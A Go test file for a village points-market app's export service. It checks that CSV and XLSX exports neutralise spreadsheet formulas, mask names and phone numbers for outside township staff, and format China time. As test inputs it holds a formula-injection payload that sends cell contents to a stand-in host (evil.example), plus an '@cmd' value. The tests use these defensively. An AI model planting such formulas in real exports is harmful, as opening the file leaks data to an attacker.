package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"pointsmarket/internal/auth"
)

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"=HYPERLINK(\"http://x\",\"点我\")": "'=HYPERLINK(\"http://x\",\"点我\")",
		"+1":                              "'+1",
		"-2+3":                            "'-2+3",
		"@SUM(A1)":                        "'@SUM(A1)",
		"\t=1":                            "'\t=1",
		"\r=1":                            "'\r=1",
		"修缮房屋":                            "修缮房屋",
		"":                                "",
		"a=1":                             "a=1",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

type rows [][]any

func (r rows) Export(_ context.Context, _ string, _ Filter, row func([]any) error) error {
	for _, x := range r {
		if err := row(x); err != nil {
			return err
		}
	}
	return nil
}

// A reason typed as a formula is exported as text in both formats; numbers stay numbers.
func TestExportsDoNotCarryFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?"&A1,"查看详情")`
	s := &Service{Deps{Store: rows{{evil, int64(-20)}, {"@cmd", int64(5)}}}}
	var out bytes.Buffer
	if err := s.Write(t.Context(), auth.Principal{}, "entries", "csv", Filter{}, &out); err != nil {
		t.Fatal(err)
	}
	records, err := readCSV(out.String())
	if err != nil {
		t.Fatal(err)
	}
	if records[1][0] != "'"+evil || records[1][1] != "-20" || records[2][0] != "'@cmd" {
		t.Errorf("csv rows = %q", records)
	}
	out.Reset()
	if err := s.Write(t.Context(), auth.Principal{}, "entries", "xlsx", Filter{}, &out); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	sheet := book.GetSheetName(0)
	for _, cell := range []string{"A2", "A3"} {
		v, _ := book.GetCellValue(sheet, cell)
		f, _ := book.GetCellFormula(sheet, cell)
		if !strings.HasPrefix(v, "'") || f != "" {
			t.Errorf("xlsx %s = %q with formula %q", cell, v, f)
		}
	}
	if typ, _ := book.GetCellType(sheet, "B2"); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
		t.Errorf("a number became text: %v", typ)
	}
}

type names []string

func (n names) Names(context.Context, int64) ([]string, error) { return n, nil }

// Township staff export a village as outsiders: names, phones and ID numbers are masked; the
// village's own officials see them.
func TestExportsForOutsidersAreMasked(t *testing.T) {
	s := &Service{Deps{Store: rows{{"帮助五保户杨秀兰（电话13800000299）修缮房屋", int64(30)}, {"张建国", int64(5)}}, Names: names{"杨秀兰", "张建国"}}}
	read := func(p auth.Principal) [][]string {
		var out bytes.Buffer
		if err := s.Write(t.Context(), p, "entries", "csv", Filter{VillageID: 7}, &out); err != nil {
			t.Fatal(err)
		}
		records, err := readCSV(out.String())
		if err != nil {
			t.Fatal(err)
		}
		return records
	}
	township := auth.Principal{Home: auth.Place{TownshipID: 1, VillageID: 9}, Grants: []auth.Grant{{Role: auth.RoleSupervisor, TownshipID: 1}}}
	if got := read(township); got[1][0] != "帮助五保户杨*兰（电话138****0299）修缮房屋" || got[2][0] != "张*国" {
		t.Errorf("township supervisor's export: %q", got)
	}
	clerk := auth.Principal{Home: auth.Place{TownshipID: 1, VillageID: 9}, Grants: []auth.Grant{{Role: auth.RoleClerk, TownshipID: 1, VillageID: 7}}}
	if got := read(clerk); got[1][0] != "帮助五保户杨秀兰（电话13800000299）修缮房屋" {
		t.Errorf("the village's own clerk's export: %q", got)
	}
}

// readCSV reads an export back; the fake store's rows are narrower than the export's header.
func readCSV(s string) ([][]string, error) {
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(s, "\ufeff")))
	r.FieldsPerRecord = -1
	return r.ReadAll()
}

func TestExportsShowTheirHeaderAndChinaTime(t *testing.T) {
	at := time.Date(2026, 5, 31, 16, 30, 0, 0, time.UTC) // 00:30 on 1 June in the village
	s := &Service{Deps{Store: rows{{int64(1), at}}}}
	var out bytes.Buffer
	if err := s.Write(t.Context(), auth.Principal{Home: auth.Place{VillageID: 0}}, "ledger", "csv", Filter{}, &out); err != nil {
		t.Fatal(err)
	}
	records, err := readCSV(out.String())
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(records[0], ",") != "编号,时间,类型,转出账户,转出账户编号,转入账户,转入账户编号,积分,事由" || records[1][1] != "2026-06-01 00:30:00" {
		t.Errorf("ledger export = %q", records)
	}
}
